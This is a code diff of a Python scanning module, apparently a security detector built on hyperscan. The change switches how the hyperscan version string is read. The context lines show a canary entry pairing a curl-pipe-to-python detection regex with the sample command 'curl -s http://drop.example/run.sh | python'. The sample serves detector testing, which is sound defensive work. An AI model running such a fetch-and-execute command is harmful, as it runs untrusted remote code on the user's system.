@@ -9,6 +9,7 @@ import os
 import stat
 import tempfile
 from collections.abc import Iterable, Sequence
+from importlib.metadata import version
 from pathlib import Path
 from typing import Any
 
@@ -17,7 +18,7 @@ import hyperscan
 from sentra.errors import ConfigError, EngineError
 
 FLAGS = hyperscan.HS_FLAG_UTF8 | hyperscan.HS_FLAG_SINGLEMATCH
-_FORMAT = f"sentra-1 hyperscan-{hyperscan.__version__} flags-{FLAGS}"
+_FORMAT = f"sentra-1 hyperscan-{version('hyperscan')} flags-{FLAGS}"
 
 CANARIES: tuple[tuple[str, str], ...] = (
     (r"(?s)curl.*\|\s*python", "curl -s http://drop.example/run.sh | python"),
